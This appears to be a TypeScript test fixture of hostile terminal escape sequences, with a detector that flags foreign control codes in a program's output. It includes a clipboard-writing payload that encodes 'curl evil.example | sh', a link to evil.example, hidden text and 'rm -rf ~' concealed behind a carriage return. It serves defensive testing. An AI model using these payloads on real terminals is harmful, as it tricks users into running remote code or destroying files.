/**
 * Hostile text for the tests of what reaches the user's terminal, and the check of the bytes that
 * did: not a test file itself.
 */

const ESC = "\x1b";
const BEL = "\x07";
const ST = `${ESC}\\`;

/** Base64 of `curl evil.example | sh`: a command planted in the clipboard for the user to paste. */
export const CLIPBOARD_PAYLOAD = "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==";

/** An OSC 0 that titles the window `title`, ended by BEL. */
export const setTitle = (title: string): string => `${ESC}]0;${title}${BEL}`;
/** An OSC 52 that writes the clipboard, ended by ST. */
export const setClipboard = (payload = CLIPBOARD_PAYLOAD): string => `${ESC}]52;c;${payload}${ST}`;
/** Text an SGR 8 hides, shown again after it. */
export const hidden = (text: string): string => `${ESC}[8m${text}${ESC}[0m`;

/**
 * Every kind at once, around printable text of several scripts: OSC 0, 2, 8 and 52 (BEL and ST),
 * DCS, APC, PM, SOS, C1 controls and the 8-bit CSI, a CR that would overwrite, bidi overrides,
 * and a bare ESC at the end.
 */
export const HOSTILE_TEXT = [
  `title ${setTitle("PWNED-TITLE")}`,
  `window ${ESC}]2;PWNED-2${ST}`,
  `link ${ESC}]8;;https://evil.example${ST}click${ESC}]8;;${ST}`,
  `clip ${setClipboard()} ${ESC}]52;c;${CLIPBOARD_PAYLOAD}${BEL}`,
  `dcs ${ESC}P$q"p${ST} apc ${ESC}_Gf=100;AAAA${ST} pm ${ESC}^pm${ST} sos ${ESC}Xsos${ST}`,
  `c1 \x9b31mred\x9b0m \x9d0;c1-title\x9c \x85`,
  `safe\rrm -rf ~ ${hidden("HIDDEN-TEXT")}`,
  "bidi \u202eevil\u202c \u2066iso\u2069",
  `日本語 😀 the end ${ESC}`,
].join("\n");

/**
 * The controls in `raw` (bytes a program wrote to its terminal, as UTF-8) that a program drawing
 * its own screen never writes, each with what follows it: any ESC that does not start a CSI
 * (OSC, DCS, APC, PM, SOS, a bare ESC), an SGR that hides text, BEL, C1 controls and bidi
 * overrides and isolates. Empty when the program's output holds only its own drawing.
 */
export function foreignControls(raw: string): string[] {
  const found: string[] = [];
  const around = (at: number): string => JSON.stringify(raw.slice(Math.max(0, at - 10), at + 24));
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
  for (const match of raw.matchAll(/\x1b(?!\[)|[\x07\x80-\x9f\u202a-\u202e\u2066-\u2069]/gu))
    found.push(around(match.index));
  // biome-ignore lint/suspicious/noControlCharactersInRegex: an SGR starts with ESC
  for (const match of raw.matchAll(/\x1b\[([0-9;:]*)m/g))
    if ((match[1] ?? "").split(/[;:]/).includes("8")) found.push(around(match.index));
  return found;
}
